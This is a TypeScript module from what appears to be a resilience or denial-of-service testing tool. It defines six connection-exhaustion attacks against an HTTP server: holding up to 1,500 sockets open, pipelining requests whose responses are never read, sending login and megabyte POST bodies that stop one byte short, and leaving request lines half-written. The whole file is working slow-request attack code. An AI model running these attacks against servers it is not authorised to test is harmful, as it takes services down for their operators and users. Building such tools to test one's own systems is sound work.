import type net from 'node:net';
import type { Attack, Target } from '../attack.ts';
import { connect } from '../client.ts';
import type { TokenBucket } from '../token-bucket.ts';

/** Attacks that occupy connections and the server's memory for them. */

/**
 * The attacker's number of file descriptors, so that the server ends the attack and not a local
 * limit.
 */
const openMax = 1_500;

/**
 * Keeps up to this number of connections open, in each of which `begin` sends something. Closed
 * connections are opened again.
 */
async function hold(
  target: Target,
  bucket: TokenBucket,
  { count, reads = true, requests = 1 }: { count: number; reads?: boolean; requests?: number },
  bytes: Buffer,
): Promise<void> {
  const open = new Set<net.Socket>();
  for (;;) {
    await bucket.take(bytes.length, requests);
    if (open.size >= count) continue;
    const socket = await connect(target, { reads });
    open.add(socket);
    socket.once('close', () => open.delete(socket));
    if (socket.destroyed) open.delete(socket);
    else socket.write(bytes);
  }
}

const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`;

/** A body that stops one byte before its declared length. */
const almostWhole = (path: string, length: number, headers = '') =>
  Buffer.concat([
    Buffer.from(`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${headers}Content-Length: ${length}\r\n\r\n`),
    Buffer.alloc(length - 1, ' '),
  ]);

export const connections: readonly Attack[] = [
  {
    name: 'probes',
    says: 'readiness, requested over 1,500 connections',
    async run(target, bucket) {
      const open: net.Socket[] = [];
      for (let number = 0; ; number++) {
        await bucket.take();
        const index = number % openMax;
        if (!open[index] || open[index].destroyed) open[index] = await connect(target);
        open[index].write(get('/readyz'));
      }
    },
  },
  {
    name: 'unread-image',
    says: 'a large image, requested on 300 connections and never read',
    run: (target, bucket) => hold(target, bucket, { count: 300, reads: false }, Buffer.from(get(target.imagePath))),
  },
  {
    name: 'pipelined',
    says: '200 requests at once on each connection, whose responses are never read',
    run: (target, bucket) =>
      hold(target, bucket, { count: 300, reads: false, requests: 200 }, Buffer.from(get('/api/0/openapi.json').repeat(200))),
  },
  {
    name: 'bodies-less-one',
    says: 'bodies of logins that lack their last byte',
    run: (target, bucket) => hold(target, bucket, { count: openMax }, almostWhole('/api/0/auth/login/', 16_000)),
  },
  {
    name: 'large-bodies-less-one',
    says: 'bodies of a megabyte that lack their last byte, by a caller without rights',
    run: (target, bucket) =>
      hold(
        target,
        bucket,
        { count: openMax },
        almostWhole('/api/0/organizations/', 1024 * 1024 - 1, `Authorization: Bearer ${target.account.token}\r\n`),
      ),
  },
  {
    name: 'silent',
    says: 'connections that send nothing, or half of a request line',
    async run(target, bucket) {
      await Promise.all([
        hold(target, bucket, { count: openMax / 2 }, Buffer.alloc(0)),
        hold(target, bucket, { count: openMax / 2 }, Buffer.from('GET /api/0/ HTTP/1.1\r\nHost: ')),
      ]);
    },
  },
];
